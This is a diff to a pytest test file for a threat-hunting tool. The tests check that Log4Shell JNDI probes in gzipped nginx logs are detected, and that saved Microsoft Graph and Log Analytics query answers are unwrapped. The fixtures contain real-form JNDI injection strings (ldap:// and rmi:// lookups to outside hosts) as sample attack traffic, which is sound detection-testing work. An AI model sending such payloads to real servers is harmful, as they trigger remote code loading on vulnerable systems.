@@ -153,22 +153,26 @@ def test_nginx_combined_log_with_a_log4shell_probe_is_hunted(
         ' HTTP/1.1" 400 157 "-" "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/aWQ=}"\n'
         '198.51.100.2 - - [01/Mar/2026:12:31:00 +0100] "GET /index.html HTTP/1.1" 200 612 "-" '
         '"Mozilla/5.0 (X11; Linux x86_64)"\n'
+        # nginx's main format appends "$http_x_forwarded_for"
+        '10.0.0.5 - - [01/Mar/2026:12:32:00 +0100] "GET /?q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.8'
+        '%2Fx%7D HTTP/1.1" 404 0 "-" "curl/8.5.0" "203.0.113.8"\n'
         'this line is garbage\n')
     with gzip.open(path, "wt", encoding="utf-8") as handle:
         handle.write(lines)
     run = _hunt(cli, "log4shell_jndi_lookup", str(path))
     assert run.code == 0, run.stderr
     doc = run.json()
-    [finding] = doc["findings"]
-    assert finding["SourceIP"] == "203.0.113.7"
-    assert finding["Timestamp"] == "2026-03-01T11:30:00.000000Z"  # +01:00 made UTC
-    assert finding["ExploitEvidence"] == "JNDI lookup in request"
+    second, first = doc["findings"]
+    assert first["SourceIP"] == "203.0.113.7"
+    assert first["Timestamp"] == "2026-03-01T11:30:00.000000Z"  # +01:00 made UTC
+    assert first["ExploitEvidence"] == "JNDI lookup in request"
+    assert second["SourceIP"] == "10.0.0.5" and "curl/8.5.0" in second["Payload"]
     assert doc["warnings"] == [
         f"{path}: not logged: csCookie; the W3CIISLog query cannot look for attacks there in "
         "this file",
         f"{path}: no Computer column(s); the W3CIISLog query only shows them, so they are null "
         "in the findings",
-        f"{path}: 1 line(s) skipped, not in the file's format: line 3: 'this line is garbage'"]
+        f"{path}: 1 line(s) skipped, not in the file's format: line 4: 'this line is garbage'"]
 
 
 @pytest.mark.parametrize(("text", "message"), [
@@ -249,6 +253,49 @@ def test_log_analytics_export_records_are_rows(tmp_path: Path, cli: Callable[...
     assert run.code == 0, run.stderr
     [finding] = run.json()["findings"]
     assert finding["Computer"] == "web-01" and finding["cIP"] == "198.51.100.77"
+
+
+def _graph_answer() -> dict[str, Any]:
+    """A saved Graph runHuntingQuery answer (Microsoft Graph reference, security:
+    runHuntingQuery: "@odata.context", "schema" of name/type, "results" of row objects)."""
+    return {"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#microsoft.graph."
+                              "security.huntingQueryResults",
+            "schema": [{"name": "Timestamp", "type": "DateTime"},
+                       {"name": "FileName", "type": "String"}],
+            "results": [RECORDS[0]["properties"]]}
+
+
+def _logs_answer() -> dict[str, Any]:
+    """A saved Logs API answer (Log Analytics data plane v1, POST query: "tables" of
+    "columns" [{name, type}] and "rows" [[...]])."""
+    props = RECORDS[0]["properties"]
+    names = [k for k in props if k != "AdditionalFields"]
+    return {"tables": [{"name": "PrimaryResult",
+                        "columns": [{"name": n, "type": "string"} for n in names],
+                        "rows": [[props[n] for n in names]]}]}
+
+
+@pytest.mark.parametrize("answer", [_graph_answer, _logs_answer])
+def test_saved_api_answers_are_unwrapped(tmp_path: Path, cli: Callable[..., Run],
+                                         answer: Callable[[], dict[str, Any]]) -> None:
+    path = tmp_path / "DeviceProcessEvents.json"
+    path.write_text(json.dumps(answer(), indent=1))
+    run = _hunt(cli, "web_server_child_process", str(path), timespan="24h")
+    assert run.code == 0, run.stderr
+    [finding] = run.json()["findings"]
+    assert finding["InitiatingProcessFileName"] == "w3wp.exe"
+    assert finding["ExploitEvidence"] == "Shell Spawned"
+
+
+def test_a_truncated_logs_answer_is_one_error_line(tmp_path: Path,
+                                                   cli: Callable[..., Run]) -> None:
+    answer = _logs_answer()
+    answer["tables"][0]["rows"][0].pop()
+    path = tmp_path / "DeviceProcessEvents.json"
+    path.write_text(json.dumps(answer))
+    run = _hunt(cli, "web_server_child_process", str(path), timespan="24h")
+    assert run.code == 2
+    assert run.stderr.startswith(f"error: {path}: a row of 8 values for 9 columns")
 
 
 # --- the window hint and day-first dates --------------------------------------------------------
